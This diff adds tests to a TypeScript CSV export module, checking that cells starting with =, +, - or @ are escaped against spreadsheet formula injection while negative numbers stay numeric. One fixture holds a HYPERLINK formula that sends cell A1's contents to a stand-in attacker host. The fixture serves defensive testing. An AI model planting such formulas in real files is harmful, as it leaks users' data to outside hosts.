@@ -1,7 +1,9 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Observation } from '../../../src/data/types';
+import { rowRecord } from '../../../src/data/import-rows';
 import { figureRows, toCsv } from '../../../src/export/csv';
+import { toDatasetCsv } from '../../../src/export/data-csv';
 import type { ExportContext } from '../../../src/export/export-context';
 import { exportFileName } from '../../../src/export/file-name';
 import { defaultFilters, type Filters } from '../../../src/state/view';
@@ -64,7 +66,50 @@ describe('CSV export', () => {
     const { table } = parse(csv);
     expect(table[1]?.[13]).toBe(tricky.excerpt);
     expect(table[1]?.[14]).toBe('comma, "quote"');
-    expect(table).toEqual(figureRows([tricky], dataset, 'en'));
+    expect(table).toEqual(figureRows([tricky], dataset, 'en').map((r) => r.map(String)));
+  });
+
+  // CSV formula injection: once maintainers import text from outside, an excerpt or note that
+  // starts with = + - @ would run as a formula when the file is opened in Excel or WPS.
+  const hostile: Observation = {
+    ...tricky,
+    id: 'hostile',
+    value: -12.5,
+    yoyPercent: -3.2,
+    excerpt: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    note: { en: '@SUM(1+1)', zh: '+1 又\n=2' },
+  };
+
+  it.each(['en', 'zh'] as const)(
+    'writes text that starts like a formula as text, numbers as numbers (%s)',
+    (lang) => {
+      const csv = toCsv([hostile], dataset, { ...context(lang), headline: '-5% in 2025' });
+      const { meta, table } = parse(csv);
+      const row = table[1] ?? [];
+      expect(row[13]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+      expect(row[14]).toBe(lang === 'en' ? "'@SUM(1+1)" : "'+1 又\n=2");
+      // A negative figure and a negative growth rate stay plain numbers a spreadsheet can sum.
+      expect(row[4]).toBe('-12.5');
+      expect(row[8]).toBe('-3.2');
+      expect(csv).toContain(',-12.5,');
+      expect(meta[1]?.[1]).toBe("'-5% in 2025");
+    },
+  );
+
+  it('escapes every text cell of the all-data file, and the importer reads it back unchanged', () => {
+    const csv = toDatasetCsv([hostile], dataset, context('en'));
+    const { table } = parse(csv);
+    const header = table[0] ?? [];
+    const row = table[1] ?? [];
+    const col = (name: string) => row[header.indexOf(name)];
+    expect(col('excerpt')).toBe(`'${hostile.excerpt}`);
+    expect(col('note.en')).toBe("'@SUM(1+1)");
+    expect(col('value')).toBe('-12.5');
+    expect(col('yoyPercent')).toBe('-3.2');
+    const record = rowRecord(header, row);
+    expect(record.excerpt).toBe(hostile.excerpt);
+    expect(record.note).toEqual({ en: '@SUM(1+1)', zh: '+1 又\n=2' });
+    expect(record.value).toBe(-12.5);
   });
 
   it('keeps values in base units, with kind, qualifier, stated growth and provenance', () => {
